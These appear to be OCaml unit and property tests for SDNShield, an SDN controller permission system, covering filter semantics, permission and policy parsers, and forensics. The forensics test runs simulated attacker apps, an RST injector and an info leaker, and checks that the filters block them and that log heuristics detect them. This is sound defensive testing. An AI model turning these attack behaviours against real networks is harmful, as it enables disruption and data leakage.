  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.failf "%s: expected Deny, got Allow" what

let manifest_exn = Sdnshield.Perm_parser.manifest_exn

let filter_exn src =
  match Sdnshield.Perm_parser.filter_of_string src with
  | Ok f -> f
  | Error e -> Alcotest.failf "filter parse error: %s" e

let policy_exn = Sdnshield.Policy_parser.of_string_exn

let contains_substring s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m = 0 || go 0

(** Probe expectation helper. *)
let check_probe what expected (p : Dataplane.probe) =
  let to_str = function
    | Dataplane.Delivered_to (h, _) -> "delivered-to " ^ h
    | Dataplane.Punted_at d -> Printf.sprintf "punted-at s%d" d
    | Dataplane.Dropped_ -> "dropped"
    | Dataplane.Looped_ -> "looped"
  in
  Alcotest.(check string) what expected (to_str p)
