(* Filter evaluation semantics (§IV-B): per-singleton behaviour and
   boolean-composition laws, including qcheck property tests. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Sdnshield

let ip = ipv4_of_string
let env = Filter_eval.pure_env
let eval e call = Filter_eval.eval env e (Attrs.of_call call)

let insert ?(dpid = 1) ?(nw_dst = Some "10.13.1.2") ?(nw_dst_mask = None)
    ?(priority = 100) ?(actions = [ Action.Output 1 ]) () =
  let nw_dst =
    Option.map
      (fun a ->
        match nw_dst_mask with
        | Some m -> Match_fields.subnet (ip a) (ip m)
        | None -> Match_fields.exact_ip (ip a))
      nw_dst
  in
  let match_ = Match_fields.make ?nw_dst ~dl_type:Eth_ip () in
  Api.Install_flow (dpid, Flow_mod.add ~priority ~match_ ~actions ())

(* Predicate filters ----------------------------------------------------------- *)

let subnet_filter = Test_util.filter_exn "IP_DST 10.13.0.0 MASK 255.255.0.0"

let test_pred_subnet () =
  Alcotest.(check bool) "narrower passes" true (eval subnet_filter (insert ()));
  Alcotest.(check bool) "outside fails" false
    (eval subnet_filter (insert ~nw_dst:(Some "10.14.1.2") ()));
  Alcotest.(check bool) "broader fails" false
    (eval subnet_filter
       (insert ~nw_dst:(Some "10.0.0.0") ~nw_dst_mask:(Some "255.0.0.0") ()));
  Alcotest.(check bool) "wildcarded fails" false
    (eval subnet_filter (insert ~nw_dst:None ()));
  Alcotest.(check bool) "equal range passes" true
    (eval subnet_filter
       (insert ~nw_dst:(Some "10.13.0.0") ~nw_dst_mask:(Some "255.255.0.0") ()))

let test_pred_vacuous_on_other_kinds () =
  (* A flow predicate attached to a topology read passes vacuously. *)
  Alcotest.(check bool) "read_topology unaffected" true
    (eval subnet_filter Api.Read_topology);
  Alcotest.(check bool) "event unaffected" true
    (eval subnet_filter (Api.Receive_event Api.E_packet_in))

let test_pred_on_syscall () =
  (* network_access LIMITING IP_DST — the Scenario 1 confinement. *)
  let f = Test_util.filter_exn "IP_DST 10.1.0.0 MASK 255.255.0.0" in
  let conn dst =
    Api.Syscall (Api.Net_connect { dst = ip dst; dst_port = 80; payload = "" })
  in
  Alcotest.(check bool) "admin range ok" true (eval f (conn "10.1.4.5"));
  Alcotest.(check bool) "attacker denied" false (eval f (conn "66.66.66.66"))

let test_pred_on_packet_out () =
  let f = Test_util.filter_exn "TCP_DST 80" in
  let po tp_dst =
    Api.Send_packet_out
      { dpid = 1; port = 1;
        packet =
          Packet.tcp ~src:1 ~dst:2 ~nw_src:(ip "10.0.0.1") ~nw_dst:(ip "10.0.0.2")
            ~tp_src:9 ~tp_dst ();
        from_pkt_in = false }
  in
  Alcotest.(check bool) "http pkt-out ok" true (eval f (po 80));
  Alcotest.(check bool) "telnet pkt-out rejected" false (eval f (po 23))

(* Wildcard filters -------------------------------------------------------------- *)

let test_wildcard_filter () =
  (* Upper 24 bits of IP_DST must stay wildcarded (the load-balancer
     example of §IV-B). *)
  let f = Test_util.filter_exn "WILDCARD IP_DST 255.255.255.0" in
  Alcotest.(check bool) "lower-8-bit rule ok" true
    (eval f
       (insert ~nw_dst:(Some "0.0.0.7") ~nw_dst_mask:(Some "0.0.0.255") ()));
  Alcotest.(check bool) "exact rule rejected" false
    (eval f (insert ~nw_dst:(Some "10.0.0.7") ()));
  Alcotest.(check bool) "fully wild ok" true (eval f (insert ~nw_dst:None ()))

(* Action filters ----------------------------------------------------------------- *)

let test_action_filter () =
  let fwd = Test_util.filter_exn "ACTION FORWARD" in
  Alcotest.(check bool) "forward ok" true (eval fwd (insert ()));
  Alcotest.(check bool) "drop rejected" false (eval fwd (insert ~actions:[] ()));
  Alcotest.(check bool) "rewrite rejected" false
    (eval fwd
       (insert ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 1 ] ()));
  let drop = Test_util.filter_exn "ACTION DROP" in
  Alcotest.(check bool) "drop ok" true (eval drop (insert ~actions:[] ()));
  Alcotest.(check bool) "forward rejected" false (eval drop (insert ()));
  let mod_tp = Test_util.filter_exn "ACTION MODIFY TCP_DST" in
  Alcotest.(check bool) "tp rewrite ok" true
    (eval mod_tp
       (insert ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 1 ] ()));
  Alcotest.(check bool) "other rewrite rejected" false
    (eval mod_tp
       (insert
          ~actions:[ Action.Set (Action.Set_nw_dst (ip "1.2.3.4")); Action.Output 1 ]
          ()))

(* Priority / rule-count ------------------------------------------------------------ *)

let test_priority_filters () =
  let f = Test_util.filter_exn "MAX_PRIORITY 500" in
  Alcotest.(check bool) "under max" true (eval f (insert ~priority:500 ()));
  Alcotest.(check bool) "over max" false (eval f (insert ~priority:501 ()));
  let g = Test_util.filter_exn "MIN_PRIORITY 10" in
  Alcotest.(check bool) "above min" true (eval g (insert ~priority:10 ()));
  Alcotest.(check bool) "below min" false (eval g (insert ~priority:9 ()))

let test_rule_count_uses_env () =
  let f = Test_util.filter_exn "MAX_RULE_COUNT 2" in
  let env_at n =
    { Filter_eval.pure_env with Filter_eval.rule_count = (fun _ -> n) }
  in
  let attrs = Attrs.of_call (insert ()) in
  Alcotest.(check bool) "budget free" true (Filter_eval.eval (env_at 1) f attrs);
  Alcotest.(check bool) "budget exhausted" false (Filter_eval.eval (env_at 2) f attrs)

(* Packet-out provenance -------------------------------------------------------------- *)

let test_pkt_out_filter () =
  let f = Test_util.filter_exn "FROM_PKT_IN" in
  let po from_pkt_in =
    Api.Send_packet_out
      { dpid = 1; port = 1; packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in }
  in
  Alcotest.(check bool) "replay ok" true (eval f (po true));
  Alcotest.(check bool) "arbitrary rejected" false (eval f (po false));
  let g = Test_util.filter_exn "ARBITRARY" in
  Alcotest.(check bool) "arbitrary allowed" true (eval g (po false))

(* Topology filters ---------------------------------------------------------------------- *)

let test_phys_topo_filter () =
  let f = Test_util.filter_exn "SWITCH 1,2" in
  Alcotest.(check bool) "member switch" true (eval f (insert ~dpid:2 ()));
  Alcotest.(check bool) "outside switch" false (eval f (insert ~dpid:3 ()));
  (* Whole-network reads pass (visibility filtered at the response). *)
  Alcotest.(check bool) "whole-net read passes" true
    (eval f (Api.Read_flow_table { dpid = None; pattern = None }))

let test_virt_topo_filter () =
  let f = Test_util.filter_exn "VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS" in
  Alcotest.(check bool) "big switch addressable" true
    (eval f (insert ~dpid:Filter_eval.virtual_big_switch_dpid ()));
  Alcotest.(check bool) "physical switch hidden" false (eval f (insert ~dpid:1 ()))

(* Stats filters ---------------------------------------------------------------------------- *)

let test_stats_filter () =
  let f = Test_util.filter_exn "PORT_LEVEL" in
  let rd level = Api.Read_stats (Stats.request level) in
  Alcotest.(check bool) "port ok" true (eval f (rd Stats.Port_level));
  Alcotest.(check bool) "flow rejected" false (eval f (rd Stats.Flow_level));
  let g = Test_util.filter_exn "PORT_LEVEL OR FLOW_LEVEL" in
  Alcotest.(check bool) "disjunction widens" true (eval g (rd Stats.Flow_level));
  Alcotest.(check bool) "switch still rejected" false (eval g (rd Stats.Switch_level))

(* Ownership (via env) ------------------------------------------------------------------------ *)

let test_owner_filter_env () =
  let f = Test_util.filter_exn "OWN_FLOWS" in
  let owned = { env with Filter_eval.owns_all_targeted = (fun _ -> true) } in
  let foreign = { env with Filter_eval.owns_all_targeted = (fun _ -> false) } in
  let attrs = Attrs.of_call (insert ()) in
  Alcotest.(check bool) "own ok" true (Filter_eval.eval owned f attrs);
  Alcotest.(check bool) "foreign rejected" false (Filter_eval.eval foreign f attrs);
  let g = Test_util.filter_exn "ALL_FLOWS" in
  Alcotest.(check bool) "all_flows unrestricted" true (Filter_eval.eval foreign g attrs)

(* Macros deny closed ---------------------------------------------------------------------------- *)

let test_macro_denies () =
  let f = Filter.Atom (Filter.Macro "AdminRange") in
  Alcotest.(check bool) "unresolved stub denies" false (eval f (insert ()));
  let expanded =
    Filter.expand_macros
      (function "AdminRange" -> Some subnet_filter | _ -> None)
      f
  in
  Alcotest.(check bool) "expanded works" true (eval expanded (insert ()))

let test_macro_collection () =
  let f = Test_util.filter_exn "AdminRange OR (LocalTopo AND IP_DST 10.0.0.1)" in
  Alcotest.(check (list string)) "macros found" [ "AdminRange"; "LocalTopo" ]
    (Filter.macros f);
  Alcotest.(check bool) "has_macros" true (Filter.has_macros f);
  Alcotest.(check bool) "clean filter" false (Filter.has_macros subnet_filter)

(* Composition laws (qcheck) ----------------------------------------------------------------------- *)

let singleton_gen : Filter.singleton QCheck.Gen.t =
  let open QCheck.Gen in
  let field = oneofl Filter.[ F_ip_src; F_ip_dst; F_tcp_src; F_tcp_dst ] in
  let ipg = map (fun (a, b) -> ipv4_of_octets (a land 0xDF) b 0 0) (pair (int_bound 255) (int_bound 255)) in
  let maskg = map (fun l -> prefix_mask (8 * l)) (int_range 0 4) in
  frequency
    [ (4,
       map3
         (fun f a m ->
           if Filter.is_ip_field f then
             Filter.Pred { field = f; value = Filter.V_ip a; mask = Some m }
           else Filter.Pred { field = f; value = Filter.V_int (Int32.to_int a land 0xFFFF); mask = None })
         field ipg maskg);
      (1, map (fun m -> Filter.Wildcard { field = Filter.F_ip_dst; mask = m }) maskg);
      (1, oneofl Filter.[ Action_f A_drop; Action_f A_forward; Action_f (A_modify F_tcp_dst) ]);
      (1, oneofl Filter.[ Owner Own_flows; Owner All_flows ]);
      (1, map (fun n -> Filter.Max_priority n) (int_bound 1000));
      (1, map (fun n -> Filter.Min_priority n) (int_bound 1000));
      (1, map (fun n -> Filter.Max_rule_count (n + 1)) (int_bound 100));
      (1, oneofl Filter.[ Pkt_out From_pkt_in; Pkt_out Arbitrary ]);
      (1,
       oneofl
         Shield_openflow.Stats.
           [ Filter.Stats_level Flow_level; Filter.Stats_level Port_level;
             Filter.Stats_level Switch_level ]) ]

let rec expr_gen depth : Filter.expr QCheck.Gen.t =
  let open QCheck.Gen in
  if depth = 0 then map (fun s -> Filter.Atom s) singleton_gen
  else
    frequency
      [ (3, map (fun s -> Filter.Atom s) singleton_gen);
        (1, return Filter.True);
        (1, return Filter.False);
        (2, map2 (fun a b -> Filter.And (a, b)) (expr_gen (depth - 1)) (expr_gen (depth - 1)));
        (2, map2 (fun a b -> Filter.Or (a, b)) (expr_gen (depth - 1)) (expr_gen (depth - 1)));
        (1, map (fun a -> Filter.Not a) (expr_gen (depth - 1))) ]

let expr_arb = QCheck.make ~print:Filter.to_string (expr_gen 3)

let call_gen : Api.call QCheck.Gen.t =
  let open QCheck.Gen in
  let ipg = map (fun (a, b) -> ipv4_of_octets (a land 0xDF) b 1 1) (pair (int_bound 255) (int_bound 255)) in
  let insert_gen =
    map3
      (fun dst prio act ->
        let match_ =
          Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip dst) ()
        in
        let actions =
          match act mod 3 with
          | 0 -> []
          | 1 -> [ Action.Output 1 ]
          | _ -> [ Action.Set (Action.Set_tp_dst 80); Action.Output 2 ]
        in
        Api.Install_flow (1 + (prio mod 4), Flow_mod.add ~priority:prio ~match_ ~actions ()))
      ipg (int_bound 1000) (int_bound 10)
  in
  let stats_gen =
    map
      (fun l ->
        Api.Read_stats
          (Stats.request
             (List.nth Stats.[ Flow_level; Port_level; Switch_level ] (l mod 3))))
      (int_bound 2)
  in
  let po_gen =
    map2
      (fun b dst ->
        Api.Send_packet_out
          { dpid = 1; port = 1;
            packet =
              Packet.tcp ~src:1 ~dst:2 ~nw_src:(ip "10.0.0.1") ~nw_dst:dst
                ~tp_src:1 ~tp_dst:80 ();
            from_pkt_in = b })
      bool ipg
  in
  frequency
    [ (4, insert_gen); (2, stats_gen); (2, po_gen);
      (1, return Api.Read_topology);
      (1, return (Api.Syscall (Api.Net_connect { dst = ip "10.1.0.1"; dst_port = 80; payload = "" }))) ]

let call_arb = QCheck.make ~print:(Fmt.to_to_string Api.pp_call) call_gen

let qsuite =
  let count = 500 in
  [ QCheck.Test.make ~count ~name:"negation involutive"
      (QCheck.pair expr_arb call_arb)
      (fun (e, c) ->
        let a = Attrs.of_call c in
        Filter_eval.eval env (Filter.Not (Filter.Not e)) a = Filter_eval.eval env e a);
    QCheck.Test.make ~count ~name:"de morgan (and)"
      (QCheck.triple expr_arb expr_arb call_arb)
      (fun (x, y, c) ->
        let a = Attrs.of_call c in
        Filter_eval.eval env (Filter.Not (Filter.And (x, y))) a
        = Filter_eval.eval env (Filter.Or (Filter.Not x, Filter.Not y)) a);
    QCheck.Test.make ~count ~name:"de morgan (or)"
      (QCheck.triple expr_arb expr_arb call_arb)
      (fun (x, y, c) ->
        let a = Attrs.of_call c in
        Filter_eval.eval env (Filter.Not (Filter.Or (x, y))) a
        = Filter_eval.eval env (Filter.And (Filter.Not x, Filter.Not y)) a);
    QCheck.Test.make ~count ~name:"smart constructors preserve semantics"
      (QCheck.triple expr_arb expr_arb call_arb)
      (fun (x, y, c) ->
        let a = Attrs.of_call c in
        Filter_eval.eval env (Filter.conj x y) a
        = Filter_eval.eval env (Filter.And (x, y)) a
        && Filter_eval.eval env (Filter.disj x y) a
           = Filter_eval.eval env (Filter.Or (x, y)) a
        && Filter_eval.eval env (Filter.neg x) a
           = Filter_eval.eval env (Filter.Not x) a);
    QCheck.Test.make ~count ~name:"cnf/dnf preserve semantics"
      (QCheck.pair expr_arb call_arb)
      (fun (e, c) ->
        let a = Attrs.of_call c in
        let reference = Filter_eval.eval env e a in
        (try Filter_eval.eval env (Nf.expr_of_cnf (Nf.cnf e)) a = reference
         with Nf.Too_large -> true)
        &&
        try Filter_eval.eval env (Nf.expr_of_dnf (Nf.dnf e)) a = reference
        with Nf.Too_large -> true);
    QCheck.Test.make ~count ~name:"simplify preserves semantics"
      (QCheck.pair expr_arb call_arb)
      (fun (e, c) ->
        let a = Attrs.of_call c in
        Filter_eval.eval env (Perm_ops.simplify_expr e) a
        = Filter_eval.eval env e a) ]

let suite =
  [ Alcotest.test_case "pred subnet" `Quick test_pred_subnet;
    Alcotest.test_case "pred vacuous elsewhere" `Quick test_pred_vacuous_on_other_kinds;
    Alcotest.test_case "pred on syscall" `Quick test_pred_on_syscall;
    Alcotest.test_case "pred on packet-out" `Quick test_pred_on_packet_out;
    Alcotest.test_case "wildcard filter" `Quick test_wildcard_filter;
    Alcotest.test_case "action filter" `Quick test_action_filter;
    Alcotest.test_case "priority filters" `Quick test_priority_filters;
    Alcotest.test_case "rule-count via env" `Quick test_rule_count_uses_env;
    Alcotest.test_case "pkt-out provenance" `Quick test_pkt_out_filter;
    Alcotest.test_case "physical topology filter" `Quick test_phys_topo_filter;
    Alcotest.test_case "virtual topology filter" `Quick test_virt_topo_filter;
    Alcotest.test_case "stats filter" `Quick test_stats_filter;
    Alcotest.test_case "ownership via env" `Quick test_owner_filter_env;
    Alcotest.test_case "macro denies closed" `Quick test_macro_denies;
    Alcotest.test_case "macro collection" `Quick test_macro_collection ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
