test/test_reconcile.ml: Alcotest Filter Inclusion List Perm Reconcile Sdnshield Test_util Token
