test/test_network.ml: Action Alcotest Dataplane Flow_mod Flow_table List Match_fields Option Packet Shield_net Shield_openflow Stats Switch Topology Types
