test/test_openflow.ml: Action Alcotest Flow_mod List Match_fields Option Packet Printf Shield_openflow Stats Types
