test/test_util.ml: Alcotest Api Dataplane Kernel Printf Runtime Sdnshield Shield_controller Shield_net Shield_openflow String Topology Types
