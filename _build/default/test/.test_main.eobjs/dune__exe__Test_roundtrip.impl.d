test/test_roundtrip.ml: Alcotest Attrs Engine Filter Filter_eval Inclusion List Option Perm Perm_parser QCheck QCheck_alcotest Sdnshield Test_filters Test_perm_ops Token
