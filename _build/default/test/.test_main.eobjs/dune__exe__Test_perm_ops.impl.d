test/test_perm_ops.ml: Alcotest Attrs Filter Filter_eval Inclusion List Perm Perm_ops QCheck QCheck_alcotest Sdnshield Test_filters Test_util Token
