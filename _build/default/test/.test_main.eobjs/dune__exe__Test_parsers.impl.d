test/test_parsers.ml: Alcotest Filter Fmt List Perm Perm_parser Policy Policy_parser Printf Sdnshield Shield_openflow Test_util Token
