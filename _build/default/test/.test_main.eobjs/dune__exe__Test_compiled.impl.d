test/test_compiled.ml: Alcotest Api Compiled Engine Fmt List Ownership QCheck QCheck_alcotest Sdnshield Shield_controller Shield_openflow Test_filters Test_perm_ops Test_util
