test/test_inclusion.ml: Alcotest Attrs Filter Filter_eval Inclusion List Nf Printf QCheck QCheck_alcotest Sdnshield Test_filters Test_util
