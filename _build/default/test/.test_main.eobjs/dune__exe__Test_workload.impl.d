test/test_workload.ml: Alcotest Api Api_trace Array Cbench Engine Events Filter List Ownership Perm Perm_gen Printf Prng Sdnshield Shield_controller Shield_openflow Shield_workload Token
