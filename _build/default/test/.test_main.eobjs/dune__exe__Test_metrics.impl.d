test/test_metrics.ml: Alcotest Float Gen List Metrics QCheck QCheck_alcotest Shield_controller
