(* Forensic analysis over activity logs (§VII): per-app summaries and
   attack-class suspicion heuristics. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_apps

let run_incident ~protected_ () =
  (* An RST injector and an info leaker run beside a benign monitor;
     forensics must finger the right apps from the logs alone. *)
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Sdnshield.Ownership.create () in
  let rst = Attacks.rst_injector () in
  let leaker = Attacks.info_leaker () in
  let monitor = Monitoring.create ~collector_ip:(ipv4_of_string "10.1.0.5") () in
  let checker name =
    if protected_ then
      Test_util.checker_of ~ownership ~topo ~name ~cookie:1
        "PERM pkt_in_event\nPERM read_payload\nPERM send_pkt_out LIMITING FROM_PKT_IN\n\
         PERM visible_topology\nPERM read_statistics\n\
         PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0"
    else Api.allow_all
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (rst.Attacks.app, checker "rst_injector");
        (leaker.Attacks.app, checker "info_leaker");
        (Monitoring.app monitor, checker "monitoring") ]
  in
  let h1 = Option.get (Topology.host_by_name topo "h1") in
  let h2 = Option.get (Topology.host_by_name topo "h2") in
  Runtime.feed_sync rt
    (Events.Packet_in
       { Message.dpid = 1; in_port = 3;
         packet =
           Packet.http_request ~src:h1.Topology.mac ~dst:h2.Topology.mac
             ~nw_src:h1.Topology.ip ~nw_dst:h2.Topology.ip ~tp_src:5000 ();
         reason = Message.No_match; buffer_id = None });
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.feed_sync rt Monitoring.tick_event;
  Runtime.shutdown rt;
  (kernel, kernel.Kernel.sandbox)

let test_summaries_unprotected () =
  let kernel, sandbox = run_incident ~protected_:false () in
  let s = Forensics.summarize_app ~sandbox ~kernel "rst_injector" in
  Alcotest.(check bool) "rst deliveries recorded" true (s.Forensics.rst_packets_delivered > 0);
  let l = Forensics.summarize_app ~sandbox ~kernel "info_leaker" in
  Alcotest.(check bool) "leaker connected out" true (l.Forensics.net_connections > 0);
  let m = Forensics.summarize_app ~sandbox ~kernel "monitoring" in
  Alcotest.(check (list string)) "monitor only talks to collector"
    [ "10.1.0.5" ] m.Forensics.distinct_net_destinations

let test_suspicions_identify_attackers () =
  let kernel, sandbox = run_incident ~protected_:false () in
  let sus =
    Forensics.suspicions ~allowed_destinations:[ "10.1.0.5" ] ~sandbox ~kernel
      [ "rst_injector"; "info_leaker"; "monitoring" ]
  in
  let classes_of app =
    List.filter_map
      (fun (s : Forensics.suspicion) ->
        if s.Forensics.suspect = app then Some s.Forensics.attack_class else None)
      sus
  in
  Alcotest.(check bool) "rst injector flagged class 1" true
    (List.mem 1 (classes_of "rst_injector"));
  Alcotest.(check bool) "leaker flagged class 2" true
    (List.mem 2 (classes_of "info_leaker"));
  Alcotest.(check (list int)) "benign monitor clean" [] (classes_of "monitoring")

let test_protected_run_shows_probing () =
  (* Under SDNShield the attacks are blocked — forensics then shows the
     denials (boundary probing) instead of damage. *)
  let kernel, sandbox = run_incident ~protected_:true () in
  let s = Forensics.summarize_app ~sandbox ~kernel "rst_injector" in
  Alcotest.(check int) "no RST landed" 0 s.Forensics.rst_packets_delivered;
  let l = Forensics.summarize_app ~sandbox ~kernel "info_leaker" in
  Alcotest.(check (list string)) "no rogue destinations" []
    (List.filter (fun d -> d <> "10.1.0.5") l.Forensics.distinct_net_destinations);
  Alcotest.(check bool) "denials visible" true (l.Forensics.denials > 0)

let suite =
  [ Alcotest.test_case "summaries (unprotected)" `Quick test_summaries_unprotected;
    Alcotest.test_case "suspicions identify attackers" `Quick test_suspicions_identify_attackers;
    Alcotest.test_case "protected run shows probing" `Quick test_protected_run_shows_probing ]
