(* Parser tests: permission language (Appendix A) and security-policy
   language (Appendix B), including the paper's own listings verbatim
   and print→parse round-trips. *)

open Sdnshield
open Shield_openflow.Types

let manifest = Test_util.manifest_exn
let filter = Test_util.filter_exn

(* Permission language ----------------------------------------------------- *)

let test_parse_bare_token () =
  match manifest "PERM read_statistics" with
  | [ { Perm.token = Token.Read_statistics; filter = Filter.True } ] -> ()
  | m -> Alcotest.failf "unexpected manifest: %s" (Perm.to_string m)

let test_parse_paper_subnet_example () =
  (* Verbatim §IV-B (with the full mask; the paper's listing has a
     typographic truncation "255.255.0"). *)
  let m =
    manifest
      "PERM read_flow_table LIMITING \\\n IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  match m with
  | [ { Perm.token = Token.Read_flow_table;
        filter =
          Filter.Atom
            (Filter.Pred
               { field = Filter.F_ip_dst; value = Filter.V_ip a; mask = Some mk }) } ] ->
    Alcotest.(check string) "addr" "10.13.0.0" (ipv4_to_string a);
    Alcotest.(check string) "mask" "255.255.0.0" (ipv4_to_string mk)
  | m -> Alcotest.failf "unexpected: %s" (Perm.to_string m)

let test_parse_paper_wildcard_example () =
  let m = manifest "PERM insert_flow LIMITING \\\n WILDCARD IP_DST 255.255.255.0" in
  match m with
  | [ { Perm.filter = Filter.Atom (Filter.Wildcard { field = Filter.F_ip_dst; mask }); _ } ] ->
    Alcotest.(check string) "mask" "255.255.255.0" (ipv4_to_string mask)
  | m -> Alcotest.failf "unexpected: %s" (Perm.to_string m)

let test_parse_paper_composition_example () =
  (* The read_flow_table OWN_FLOWS OR subnets example of §IV-B. *)
  let m =
    manifest
      "PERM read_flow_table LIMITING OWN_FLOWS OR \\\n\
       IP_SRC 10.13.0.0 MASK 255.255.0.0 OR \\\n\
       IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  match m with
  | [ { Perm.filter = Filter.Or (Filter.Or (Filter.Atom (Filter.Owner Filter.Own_flows), _), _); _ } ] -> ()
  | m -> Alcotest.failf "unexpected: %s" (Perm.to_string m)

let test_parse_paper_virtual_topology () =
  let m =
    manifest
      "PERM visible_topology LIMITING \\\n VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS"
  in
  match m with
  | [ { Perm.filter = Filter.Atom (Filter.Virt_topo Filter.Single_big_switch); _ } ] -> ()
  | m -> Alcotest.failf "unexpected: %s" (Perm.to_string m)

let test_parse_switch_groups () =
  match filter "VIRTUAL { 1, 2 } AS 100, { 3 } AS 101" with
  | Filter.Atom (Filter.Virt_topo (Filter.Switch_groups [ (s1, 100); (s2, 101) ])) ->
    Alcotest.(check (list int)) "g1" [ 1; 2 ] (Filter.Int_set.elements s1);
    Alcotest.(check (list int)) "g2" [ 3 ] (Filter.Int_set.elements s2)
  | f -> Alcotest.failf "unexpected: %s" (Filter.to_string f)

let test_parse_scenario2_manifest () =
  (* Scenario 2's manifest, verbatim from §VII. *)
  let m =
    manifest
      "PERM visible_topology\n\
       PERM flow_event\n\
       PERM send_pkt_out\n\
       PERM insert_flow LIMITING \\\n ACTION FORWARD AND OWN_FLOWS"
  in
  Alcotest.(check int) "4 permissions" 4 (List.length m);
  match Perm.find m Token.Insert_flow with
  | Some { Perm.filter = Filter.And (Filter.Atom (Filter.Action_f Filter.A_forward), Filter.Atom (Filter.Owner Filter.Own_flows)); _ } -> ()
  | _ -> Alcotest.fail "insert_flow filter wrong"

let test_parse_token_synonyms () =
  let m = manifest "PERM network_access\nPERM read_topology\nPERM send_packet_out" in
  Alcotest.(check bool) "host_network" true (Perm.grants_token m Token.Host_network);
  Alcotest.(check bool) "visible_topology" true (Perm.grants_token m Token.Visible_topology);
  Alcotest.(check bool) "send_pkt_out" true (Perm.grants_token m Token.Send_pkt_out)

let test_parse_operators_precedence () =
  (* AND binds tighter than OR. *)
  match filter "OWN_FLOWS OR ACTION DROP AND MAX_PRIORITY 5" with
  | Filter.Or (Filter.Atom (Filter.Owner Filter.Own_flows), Filter.And (_, _)) -> ()
  | f -> Alcotest.failf "precedence wrong: %s" (Filter.to_string f)

let test_parse_not_and_parens () =
  match filter "NOT (OWN_FLOWS OR ACTION DROP)" with
  | Filter.Not (Filter.Or (_, _)) -> ()
  | f -> Alcotest.failf "unexpected: %s" (Filter.to_string f)

let test_parse_duplicate_tokens_merge () =
  let m = manifest "PERM insert_flow LIMITING ACTION DROP\nPERM insert_flow LIMITING ACTION FORWARD" in
  Alcotest.(check int) "merged" 1 (List.length m);
  match m with
  | [ { Perm.filter = Filter.Or (_, _); _ } ] -> ()
  | _ -> Alcotest.fail "expected disjunction after merge"

let test_parse_macro_stub () =
  let m = manifest "PERM visible_topology LIMITING LocalTopo" in
  Alcotest.(check (list string)) "stub" [ "LocalTopo" ] (Perm.macros m)

let test_parse_comments_and_continuations () =
  let m =
    manifest
      "# a comment line\nPERM insert_flow \\\n  LIMITING MAX_PRIORITY 7 # trailing"
  in
  match m with
  | [ { Perm.filter = Filter.Atom (Filter.Max_priority 7); _ } ] -> ()
  | _ -> Alcotest.fail "comment handling broken"

let test_parse_errors () =
  let expect_error src =
    match Perm_parser.manifest_of_string src with
    | Error _ -> ()
    | Ok m -> Alcotest.failf "should not parse %S -> %s" src (Perm.to_string m)
  in
  expect_error "PERM bogus_token";
  expect_error "PERM insert_flow LIMITING";
  expect_error "PERM insert_flow LIMITING IP_DST";
  expect_error "PERM insert_flow LIMITING MAX_PRIORITY high";
  expect_error "PERM insert_flow LIMITING TCP_DST 80 MASK 255.0.0.0";
  expect_error "PERM insert_flow trailing_garbage ^"

let test_parse_bad_lexing () =
  match Perm_parser.manifest_of_string "PERM insert_flow LIMITING IP_DST 10.0.0" with
  | Error _ -> ()
  | Ok _ -> Alcotest.fail "bad IP literal accepted"

let test_roundtrip_print_parse () =
  let sources =
    [ "PERM read_flow_table LIMITING OWN_FLOWS OR IP_DST 10.13.0.0 MASK 255.255.0.0";
      "PERM insert_flow LIMITING ACTION FORWARD AND MAX_PRIORITY 1000";
      "PERM visible_topology LIMITING SWITCH 1,2,3";
      "PERM send_pkt_out LIMITING FROM_PKT_IN";
      "PERM read_statistics LIMITING PORT_LEVEL OR FLOW_LEVEL";
      "PERM insert_flow LIMITING NOT ACTION DROP" ]
  in
  List.iter
    (fun src ->
      let m = manifest src in
      let printed = Perm.to_string m in
      let reparsed = manifest printed in
      Alcotest.(check bool)
        (Printf.sprintf "roundtrip %s" src)
        true (Perm.equal m reparsed))
    sources

(* Policy language ----------------------------------------------------------- *)

let policy = Test_util.policy_exn

let test_policy_paper_mutual_exclusion () =
  (* Verbatim §V-A. *)
  match policy "ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }" with
  | [ Policy.Assert_exclusive (Policy.P_block a, Policy.P_block b) ] ->
    Alcotest.(check bool) "lhs" true (Perm.grants_token a Token.Host_network);
    Alcotest.(check bool) "rhs" true (Perm.grants_token b Token.Send_pkt_out)
  | _ -> Alcotest.fail "unexpected policy shape"

let test_policy_paper_boundary () =
  (* The monitoring-template boundary of §V-A, verbatim. *)
  let src =
    "LET templatePerm = {\n\
     PERM read_topology\n\
     PERM read_statistics LIMITING PORT_LEVEL\n\
     PERM network_access LIMITING \\\n\
     IP_DST 192.168.0.0 MASK 255.255.0.0\n\
     }\n\
     ASSERT monitorAppPerm <= templatePerm"
  in
  match policy src with
  | [ Policy.Let ("templatePerm", Policy.B_perm (Policy.P_block tpl));
      Policy.Assert (Policy.A_cmp (Policy.P_var "monitorAppPerm", Policy.C_le, Policy.P_var "templatePerm")) ] ->
    Alcotest.(check int) "template size" 3 (List.length tpl)
  | _ -> Alcotest.fail "unexpected policy shape"

let test_policy_scenario1 () =
  (* Scenario 1's administrator input, verbatim modulo concrete sets. *)
  let src =
    "LET LocalTopo = {SWITCH 0,1 LINK 3,4}\n\
     LET AdminRange = {IP_DST 10.1.0.0 \\\n MASK 255.255.0.0}\n\
     ASSERT EITHER { PERM network_access } \\\n OR { PERM insert_flow }"
  in
  match policy src with
  | [ Policy.Let ("LocalTopo", Policy.B_filter (Filter.Atom (Filter.Phys_topo pt)));
      Policy.Let ("AdminRange", Policy.B_filter (Filter.Atom (Filter.Pred _)));
      Policy.Assert_exclusive (_, _) ] ->
